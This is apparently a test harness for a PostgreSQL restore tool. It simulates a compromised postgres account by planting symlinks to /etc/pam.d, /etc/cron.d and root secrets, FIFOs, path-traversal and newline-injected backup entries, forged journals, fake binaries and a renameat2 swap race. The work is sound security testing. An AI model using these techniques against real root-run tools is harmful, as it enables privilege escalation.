# Copyright: (c) 2026, pgfleet.pitr contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""PostgreSQL's account, taken over: `account.py NAME` plants an attack; `keep` saves its files, `renew` puts them back.

What is aimed at is root's: /etc/pam.d, /etc/cron.d, a secret, a configuration in a directory of root's.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import random
import shutil
import sys
import time
from collections.abc import Callable
from pathlib import Path

TRIES = "/usr/local/libexec/become_root"
PARENT = Path("/var/lib/postgresql/17")
DATA, CONF, REPOSITORY = PARENT / "other", Path("/etc/postgresql/17/other"), Path("/srv/pitr/db2")
KEPT = Path("/var/tmp/kept")
LARGE_BYTES = 1 << 20
INIT = "/proc/1/cwd"
SECRET = Path("/etc/attacked/secret")
ROOTS = Path("/etc/attacked/postgresql.conf")
JOURNAL = PARENT / "other.pitr-journal.json"


def kept(place: Path) -> Path:
    """Where a copy of it lies."""
    return KEPT / place.relative_to("/")


def copy(source: Path, destination: Path) -> None:
    """All of it; what is large, and no attack writes to, by a hard link."""

    def copy_file(one: str, other: str) -> None:
        (os.link if os.stat(one).st_size > LARGE_BYTES else shutil.copy2)(one, other, follow_symlinks=False)

    shutil.copytree(source, destination, symlinks=True, copy_function=copy_file)


def keep() -> None:
    """Remember everything as it is."""
    for place in (DATA, CONF, REPOSITORY):
        copy(place, kept(place))


def renew_configuration() -> None:
    """Put the configuration back under a running server."""
    remove(CONF)
    copy(kept(CONF), CONF)


def renew() -> None:
    """Put everything back. The server does not run."""
    for place in (DATA, CONF, REPOSITORY):
        remove(place.with_name(f"{place.name}.beside"))
        remove(place)
        copy(kept(place), place)
    for path in (*PARENT.glob("other.*"), CONF.parent / "evil", Path("/tmp/account")):
        remove(path)


def remove(path: Path) -> None:
    """Whatever lies there."""
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)


def programs() -> None:
    """A configuration of another cluster in the account's own place, whose programs are the account's."""
    data, conf = Path("/tmp/account/data"), CONF.parent / "evil"
    shutil.copytree(DATA, data, symlinks=True)
    binaries = data.parent / "bin"
    binaries.mkdir()
    for name in ("postgres", "pg_ctl", "pg_controldata"):
        shutil.copy(TRIES, binaries / name)
        (binaries / name).chmod(0o755)
    (data / "postmaster.opts").write_text(f'{binaries}/postgres "-D" "{data}"\n')
    shutil.copytree(CONF, conf)
    (conf / "postgresql.conf").write_text(f"data_directory = '{data}'\n")


def wal_link() -> None:
    """The directory of the WAL is root's, by a link."""
    remove(DATA / "pg_wal")
    (DATA / "pg_wal").symlink_to("/etc/pam.d")


def tablespace() -> None:
    """A tablespace lies in a directory of root's, in the cluster and by the record of the backup."""
    (DATA / "pg_tblspc" / "77777").symlink_to("/etc/cron.d")
    (DATA / "pg_tblspc" / "77778").symlink_to(f"{INIT}/etc/pam.d")
    for path in REPOSITORY.glob("backups/*/backup.json"):
        record = json.loads(path.read_text())
        record["tablespaces"] = {"77777": "/etc/cron.d", "77778": f"{INIT}/etc/pam.d"}
        record["wal_directory"] = "/etc/pam.d"
        path.write_text(json.dumps(record))


def forged_journal(path: Path = JOURNAL, **changes: str) -> None:
    """The journal of a real restore, with other places, another user, or another service in it."""
    text = (KEPT.parent / "journal.json").read_text()
    for old, new in {"db1": "db2", "/data/main": "/etc/pam.d", **changes}.items():
        text = text.replace(old, new)
    path.write_text(text)
    path.chmod(0o600)


def foreign_journal() -> None:
    """The journal says that the cluster is root's, and its service one of the system's."""
    forged_journal(**{'"postgres"': '"root"', "postgresql@17-main": "ssh"})


def system_service() -> None:
    """The account's own cluster, and a service of the system's."""
    forged_journal(**{"/data/main": str(DATA), "postgresql@17-main": "systemd-journald"})


def journal_fifo() -> None:
    """A journal and a lock that a reader would wait for."""
    for path in (JOURNAL, PARENT / "other.pitr-lock"):
        os.mkfifo(path)


def journal_link() -> None:
    """A journal that is a link to what is root's."""
    JOURNAL.symlink_to(SECRET)


def sibling_links() -> None:
    """A lock and the directories of a restore that are links to what is root's."""
    (PARENT / "other.pitr-lock").symlink_to("/etc/attacked/made")
    (PARENT / "other.pitr-new").symlink_to("/etc/pam.d")
    (PARENT / "other.pitr-old").symlink_to("/etc/cron.d")


def configuration_link() -> None:
    """The configuration is root's, by a link; included files, too."""
    for name in ("postgresql.conf", "pg_hba.conf"):
        remove(CONF / name)
        (CONF / name).symlink_to(ROOTS)
    remove(CONF / "conf.d")
    (CONF / "conf.d").symlink_to(ROOTS.parent)


def read_links() -> None:
    """What is read from a data directory is a secret of root's, or is never written to."""
    for name in ("postmaster.opts", "PG_VERSION", "postgresql.auto.conf"):
        remove(DATA / name)
        (DATA / name).symlink_to(SECRET)
    for name in ("backup_label", "tablespace_map", "postmaster.pid", "recovery.signal"):
        remove(DATA / name)
        os.mkfifo(DATA / name)
    (CONF / "conf.d" / "secret.conf").symlink_to(SECRET)


def repository() -> None:
    """What the repository holds leads to root's files, waits for ever, or has names that nobody expects."""
    for name in (".lock", ".verify.lock", "verify.json", "expired_wal.json", "backups/.lock", "backups/.hold.lock"):
        remove(REPOSITORY / name)
        (REPOSITORY / name).symlink_to(SECRET if name.endswith("json") else "/etc/attacked/made")
    label = sorted((REPOSITORY / "backups").glob("2*"))[-1]
    record = json.loads((label / "backup.json").read_text())
    record["files"] = [*record["files"], "../../../../../etc/attacked/secret", "/etc/attacked/secret", "line\nbreak"]
    (label / "backup.json").write_text(json.dumps(record))
    (REPOSITORY / "backups" / "20200101T000000Z-full").symlink_to("/etc/attacked")
    (REPOSITORY / "backups" / "20200102T000000Z-full\n20200103T000000Z-full").mkdir()
    (REPOSITORY / "backups" / "20200104T000000Z-full").mkdir()
    os.mkfifo(REPOSITORY / "backups" / "20200104T000000Z-full" / "backup.json")
    (REPOSITORY / "wal" / "00000009").symlink_to("/etc/attacked")
    os.mkfifo(REPOSITORY / "wal" / "00000008.history")
    with contextlib.suppress(OSError):
        os.link(SECRET, REPOSITORY / "backups" / "20200104T000000Z-full" / "base.tar")


def exchange() -> None:
    """Data directory, configuration and repository trade places with links to what is root's, until this is killed."""
    libc = ctypes.CDLL(None)
    pairs = []
    for place, target in ((DATA, ROOTS.parent), (CONF, ROOTS.parent), (REPOSITORY, ROOTS.parent), (JOURNAL, SECRET)):
        beside = place.with_name(f"{place.name}.beside")
        beside.symlink_to(target)
        if not place.exists():
            forged_journal(place)
        pairs.append((os.fsencode(place), os.fsencode(beside)))
    end = time.monotonic() + 600
    while time.monotonic() < end:
        for one, other in pairs:
            # renameat2(2) with RENAME_EXCHANGE.
            libc.renameat2(-100, one, -100, other, 2)
            time.sleep(random.random() / 50)


def main() -> None:
    """Do what the command line says."""
    acts: tuple[Callable[[], None], ...] = (
        keep, renew, renew_configuration, programs, wal_link, tablespace, forged_journal, foreign_journal,
        system_service, journal_fifo, journal_link, sibling_links, configuration_link, read_links, repository, exchange,
    )  # fmt: skip
    for name in sys.argv[1:]:
        next(act for act in acts if act.__name__ == name)()


if __name__ == "__main__":
    main()
